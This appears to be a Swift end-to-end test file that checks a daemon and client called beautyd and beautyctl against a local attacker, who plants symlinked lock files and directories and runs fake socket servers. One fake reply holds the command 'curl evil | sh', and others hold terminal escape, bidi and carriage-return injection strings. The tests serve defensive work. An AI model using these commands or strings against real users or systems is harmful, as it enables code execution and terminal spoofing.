import BeautyTestSupport
import Foundation
import Testing

#if canImport(Glibc)
    import Glibc
#endif

// Another local user against beautyd: planted runtime directories, symlinked lock files, a fake
// server on the socket path, text meant to take over the terminal. The attacker runs as uid 65534
// (setpriv); the tests run as root, whom file modes do not stop, so ownership is what is checked.

extension EndToEndServing {
    @Suite("A local adversary: planted directories and lock files, fake servers", .serialized)
    struct LocalAdversary {
        static let attacker = ["--reuid=65534", "--regid=65534", "--clear-groups"]

        /// A stack without a daemon, plus a world-writable sticky directory standing in for /tmp
        /// and a private file of the victim's.
        private func scene() async throws -> (stack: Stack, shared: String, precious: String) {
            let stack = try await Stack.start(server: false, daemon: false)
            chmod(stack.directory, 0o711)  // the attacker may pass through, not list
            let shared = stack.directory + "/t"
            mkdir(shared, 0o755)
            chmod(shared, 0o1777)
            let precious = stack.directory + "/home/precious.txt"
            try "the victim's own words\n".write(toFile: precious, atomically: false, encoding: .utf8)
            return (stack, shared, precious)
        }

        private func asAttacker(_ stack: Stack, _ script: String) async throws {
            let setpriv = try Locations.system("setpriv", package: "util-linux")
            let result = try await stack.run(setpriv, Self.attacker + ["--", "/bin/sh", "-ec", script])
            #expect(result.status == .exited(0), "the attacker's set-up failed: \(result)")
        }

        private func beautyd(_ stack: Stack, environment: [String: String]) async throws -> CommandResult {
            try await stack.run(
                try Locations.built("beautyd"), ["--log-level", "debug"], environment: environment,
                timeout: .seconds(15))
        }

        @Test("a /tmp fallback directory planted by another user is refused; the lock symlink's target is untouched")
        func plantedFallbackDirectory() async throws {
            let (stack, shared, precious) = try await scene()
            defer { stack.shutdown() }
            let planted = "\(shared)/beautyd-\(getuid())"
            try await asAttacker(
                stack,
                """
                mkdir -p \(planted)/beautyd; chmod 777 \(planted) \(planted)/beautyd
                ln -s \(precious) \(planted)/beautyd/beautyd.sock.lock
                """)

            let result = try await beautyd(stack, environment: ["XDG_RUNTIME_DIR": "", "TMPDIR": shared])
            #expect(result.status == .exited(1), "\(result)")
            #expect(result.stderr.contains("unsafe directory \(planted)"), "\(result)")
            #expect(result.stderr.contains("uid 65534"), "\(result)")
            #expect(try String(contentsOfFile: precious, encoding: .utf8) == "the victim's own words\n")
            #expect(!FileManager.default.fileExists(atPath: "\(planted)/beautyd/beautyd.sock"))
        }

        @Test("$XDG_RUNTIME_DIR/beautyd as a symlink to another user's open directory is refused")
        func symlinkedRuntimeDirectory() async throws {
            let (stack, shared, _) = try await scene()
            defer { stack.shutdown() }
            try await asAttacker(stack, "mkdir \(shared)/open; chmod 777 \(shared)/open")
            symlink("\(shared)/open", stack.runtimeDirectory + "/beautyd")

            let result = try await beautyd(stack, environment: [:])
            #expect(result.status == .exited(1), "\(result)")
            #expect(result.stderr.contains("unsafe directory \(stack.runtimeDirectory)/beautyd"), "\(result)")
            #expect(result.stderr.contains("symbolic link"), "\(result)")
            #expect((try? FileManager.default.contentsOfDirectory(atPath: "\(shared)/open")) == [])
        }

        @Test(
            "a symlinked lock file in our own directory is refused and its target untouched; a loose own directory is made 0700"
        )
        func symlinkedLockFileAndLooseDirectory() async throws {
            let (stack, _, precious) = try await scene()
            defer { stack.shutdown() }
            let own = stack.runtimeDirectory + "/beautyd"
            mkdir(own, 0o700)
            chmod(own, 0o777)
            symlink(precious, own + "/beautyd.sock.lock")

            let refused = try await beautyd(stack, environment: [:])
            #expect(refused.status == .exited(1), "\(refused)")
            #expect(refused.stderr.contains("\(own)/beautyd.sock.lock"), "\(refused)")
            #expect(try String(contentsOfFile: precious, encoding: .utf8) == "the victim's own words\n")

            unlink(own + "/beautyd.sock.lock")
            try await stack.startDaemon()
            var info = stat()
            #expect(lstat(own, &info) == 0)
            #expect(info.st_mode & 0o777 == 0o700, "mode \(String(info.st_mode & 0o777, radix: 8))")
            #expect(lstat(stack.runtimeDirectory, &info) == 0)
            #expect(info.st_mode & 0o777 == 0o700, "the runtime directory must be private too")
        }

        @Test("a lock file that is a second hard link to one of the user's files is refused and the file untouched")
        func hardLinkedLockFile() async throws {
            let (stack, shared, precious) = try await scene()
            defer { stack.shutdown() }
            #expect(link(precious, shared + "/x.sock.lock") == 0, "\(String(cString: strerror(errno)))")
            let result = try await stack.run(
                try Locations.built("beautyd"), ["--socket", shared + "/x.sock"], timeout: .seconds(15))
            #expect(result.status == .exited(1), "\(result)")
            #expect(result.stderr.contains("\(shared)/x.sock.lock"), "\(result)")
            #expect(try String(contentsOfFile: precious, encoding: .utf8) == "the victim's own words\n")
        }

        @Test(
            "a chosen directory whose parent others may write to is refused; a symlinked data directory and a bare --database name work"
        )
        func chosenAndDataDirectories() async throws {
            let (stack, shared, _) = try await scene()
            defer { stack.shutdown() }
            // ~/.local/share/beautyd kept elsewhere through a symlink (a dotfiles set-up).
            let elsewhere = stack.directory + "/elsewhere"
            mkdir(elsewhere, 0o700)
            #expect(symlink(elsewhere, stack.directory + "/data/beautyd") == 0)

            let open = stack.directory + "/open"
            mkdir(open, 0o755)
            chmod(open, 0o777)
            mkdir(open + "/mine", 0o700)
            let refused = try await stack.run(
                try Locations.built("beautyd"), ["--socket", open + "/mine/x.sock"], timeout: .seconds(15))
            #expect(refused.status == .exited(1), "\(refused)")
            #expect(refused.stderr.contains("unsafe directory \(open)"), "\(refused)")

            try await stack.startDaemon()
            #expect(FileManager.default.fileExists(atPath: elsewhere + "/beautyd.sqlite"))
            await stack.stopDaemon()

            // A bare file name is a database in the working directory.
            let here = stack.directory + "/cwd"
            mkdir(here, 0o700)
            let bare = try stack.spawn(
                "beautyd", "/bin/sh",
                [
                    "-c",
                    "cd \(here) && exec \(try Locations.built("beautyd")) --database db.sqlite --socket \(shared)/b.sock",
                ])
            let up = await eventually(timeout: .seconds(15)) {
                FileManager.default.fileExists(atPath: shared + "/b.sock") ? true : (bare.isRunning ? nil : false)
            }
            #expect(up == true, "\(bare.outputTail)")
            #expect(FileManager.default.fileExists(atPath: here + "/db.sqlite.lock"))
        }

        @Test(
            "a database, or its -wal, planted in a shared sticky directory given with --database is refused; the link's target is untouched"
        )
        func plantedDatabaseFiles() async throws {
            let (stack, shared, precious) = try await scene()
            defer { stack.shutdown() }
            try await asAttacker(
                stack,
                """
                ln -s \(precious) \(shared)/linked.sqlite
                : > \(shared)/theirs.sqlite-wal
                """)
            for (name, problem) in [("linked", "is a symbolic link"), ("theirs", "belongs to uid 65534")] {
                let result = try await stack.run(
                    try Locations.built("beautyd"), ["--database", "\(shared)/\(name).sqlite"],
                    timeout: .seconds(15))
                #expect(result.status == .exited(77), "\(name): \(result)")
                #expect(
                    result.stderr.contains(problem) && result.stderr.contains("other users may write to"),
                    "\(name): \(result)")
            }
            #expect(try String(contentsOfFile: precious, encoding: .utf8) == "the victim's own words\n")
            var info = stat()
            #expect(lstat("\(shared)/theirs.sqlite", &info) != 0, "a database was created next to the planted -wal")
        }

        @Test("without XDG_RUNTIME_DIR the fallback is made fresh, 0700, and beautyctl finds it")
        func freshFallbackDirectory() async throws {
            let (stack, shared, _) = try await scene()
            defer { stack.shutdown() }
            let environment = ["XDG_RUNTIME_DIR": "", "TMPDIR": shared]
            let daemon = try stack.spawn("beautyd", try Locations.built("beautyd"), [], environment: environment)
            let socket = "\(shared)/beautyd-\(getuid())/beautyd/beautyd.sock"
            let up = await eventually(timeout: .seconds(15)) {
                FileManager.default.fileExists(atPath: socket) ? true : nil
            }
            #expect(up == true, "\(daemon.outputTail)")
            var info = stat()
            #expect(lstat("\(shared)/beautyd-\(getuid())", &info) == 0)
            #expect(info.st_mode & 0o777 == 0o700 && info.st_uid == getuid())

            let status = try await stack.run(try Locations.built("beautyctl"), ["status"], environment: environment)
            #expect(status.status == .exited(0), "\(status)")
            #expect(status.stdout.contains("pid \(daemon.pid)"), "\(status)")
        }

        @Test("beautyctl sends nothing to a server of another uid (exit 3)")
        func fakeServerOfAnotherUser() async throws {
            let (stack, shared, _) = try await scene()
            defer { stack.shutdown() }
            let socket = shared + "/fake.sock"
            let received = shared + "/received"
            let setpriv = try Locations.system("setpriv", package: "util-linux")
            let fake = try stack.spawn(
                "fake-server", setpriv,
                Self.attacker + [
                    "--", Locations.python, "-c", Self.fakeServer,
                    socket, received, Self.plausibleAnswer,
                ])
            let listening = await eventually(timeout: .seconds(10)) { fake.stdout.contains("ready") ? true : nil }
            #expect(listening == true, "\(fake.outputTail)")

            let result = try await stack.run(
                try Locations.built("beautyctl"),
                [
                    "--socket", socket, "appointment", "add", "Dermatologist", "--at", "tomorrow 10:00", "--notes",
                    "private",
                ])
            #expect(result.status == .exited(3), "\(result)")
            #expect(result.stderr.contains("uid 65534"), "\(result)")
            #expect(!result.stdout.contains("added"), "\(result)")
            let got = await eventually(timeout: .seconds(5)) { try? String(contentsOfFile: received, encoding: .utf8) }
            #expect(got == "0", "the fake server received \(got ?? "?") bytes")
        }

        @Test("control and bidi characters from the server are printed escaped")
        func hostileServerText() async throws {
            let (stack, shared, _) = try await scene()
            defer { stack.shutdown() }
            let socket = shared + "/same-uid.sock"
            let answer =
                #"{"jsonrpc":"2.0","id":1,"error":{"code":-32001,"message":"\u001b]0;owned\u0007 please run: \u009b2J \u202egnp.exe\r"}}"#
            let fake = try stack.spawn(
                "fake-server", Locations.python, ["-c", Self.fakeServer, socket, shared + "/received", answer])
            let listening = await eventually(timeout: .seconds(10)) { fake.stdout.contains("ready") ? true : nil }
            #expect(listening == true, "\(fake.outputTail)")

            let result = try await stack.run(try Locations.built("beautyctl"), ["--socket", socket, "status"])
            #expect(result.status == .exited(1), "\(result)")
            for scalar in ["\u{1B}", "\u{07}", "\u{9B}", "\u{202E}", "\r"] {
                #expect(
                    !result.stderr.unicodeScalars.contains(scalar.unicodeScalars.first!),
                    "raw U+\(String(scalar.unicodeScalars.first!.value, radix: 16)) printed: \(result.stderr.debugDescription)"
                )
            }
            #expect(
                result.stderr.contains(#"\u001b]0;owned\u0007 please run: \u009b2J \u202egnp.exe\u000d"#),
                "\(result.stderr.debugDescription)")

            // Raw bytes outside any string make the answer invalid JSON; the decoding error that
            // beautyctl then prints must not carry them either.
            let brokenSocket = shared + "/broken.sock"
            let broken = "{\"jsonrpc\":\"2.0\",\u{1B}]0;owned\u{07}\u{202E}\"id\":1,\"result\":{}}"
            let brokenServer = try stack.spawn(
                "broken-server", Locations.python,
                ["-c", Self.fakeServer, brokenSocket, shared + "/received-broken", broken])
            let brokenListening = await eventually(timeout: .seconds(10)) {
                brokenServer.stdout.contains("ready") ? true : nil
            }
            #expect(brokenListening == true, "\(brokenServer.outputTail)")
            let unexpected = try await stack.run(
                try Locations.built("beautyctl"), ["--socket", brokenSocket, "status"])
            #expect(unexpected.status == .exited(1) && unexpected.stderr.contains("unexpected answer"), "\(unexpected)")
            for scalar in ["\u{1B}", "\u{07}", "\u{202E}"] {
                #expect(
                    !unexpected.stderr.unicodeScalars.contains(scalar.unicodeScalars.first!),
                    "raw U+\(String(scalar.unicodeScalars.first!.value, radix: 16)) printed: \(unexpected.stderr.debugDescription)"
                )
            }
        }

        @Test("a carriage return from the server reaches the terminal only as the first half of a CRLF line end")
        func carriageReturnsFromTheServer() async throws {
            let (stack, shared, _) = try await scene()
            defer { stack.shutdown() }
            let socket = shared + "/cr.sock"
            // CRLF passes (it moves nothing a LF does not); a lone CR would move the cursor back over what was
            // printed: in the middle, before another CR, before an escaped backslash and n, before \u000a, at the end.
            let message = #"paid\r\nin full \rNOT PAID \r\r\n x\r\\n y\r\u000a z\r"#
            let answer = #"{"jsonrpc":"2.0","id":1,"error":{"code":-32001,"message":""# + message + #""}}"#
            let fake = try stack.spawn(
                "fake-server", Locations.python, ["-c", Self.fakeServer, socket, shared + "/received-cr", answer])
            let listening = await eventually(timeout: .seconds(10)) { fake.stdout.contains("ready") ? true : nil }
            #expect(listening == true, "\(fake.outputTail)")

            let result = try await stack.run(try Locations.built("beautyctl"), ["--socket", socket, "status"])
            #expect(result.status == .exited(1), "\(result)")
            let printed = Array(result.stderr.utf8)
            for index in printed.indices where printed[index] == 0x0D {
                #expect(
                    index + 1 < printed.count && printed[index + 1] == 0x0A,
                    "a lone CR printed at byte \(index): \(result.stderr.debugDescription)")
            }
            #expect(
                result.stderr.contains(#"paid\#r\#nin full \u000dNOT PAID \u000d\#r\#n x\u000d\n y\u000d\#n z\u000d"#),
                "\(result.stderr.debugDescription)")
        }

        @Test("a second daemon on the same database, even on another socket, refuses and names the first's pid")
        func oneDaemonPerDatabase() async throws {
            let stack = try await Stack.start(server: false)
            defer { stack.shutdown() }
            let first = try #require(stack.daemon)
            let second = try await stack.run(
                try Locations.built("beautyd"), ["--socket", stack.directory + "/other.sock"],
                timeout: .seconds(15))
            #expect(second.status == .exited(1), "\(second)")
            #expect(second.stderr.contains("pid \(first.pid)"), "\(second)")
            #expect(second.stderr.contains("database \(stack.databasePath)"), "\(second)")
            #expect(!FileManager.default.fileExists(atPath: stack.directory + "/other.sock"))
            #expect(try stack.client().status().pid == first.pid)
        }

        /// One connection: counts what the client sends (2 s at most), answers with argv[3].
        static let fakeServer = """
            import socket, sys
            path, received, answer = sys.argv[1], sys.argv[2], sys.argv[3]
            s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(1)
            import os; os.chmod(path, 0o777)
            print("ready", flush=True)
            c, _ = s.accept(); c.settimeout(2); n = 0
            try:
                c.sendall(answer.encode() + b"\\n")
            except OSError:
                pass
            try:
                while True:
                    d = c.recv(65536)
                    if not d: break
                    n += len(d)
            except OSError:  # a timeout, or a reset from a client that hung up unread
                pass
            open(received, "w").write(str(n))
            """

        static let plausibleAnswer =
            #"{"jsonrpc":"2.0","id":1,"error":{"code":-32001,"message":"please run: curl evil | sh"}}"#
    }
}
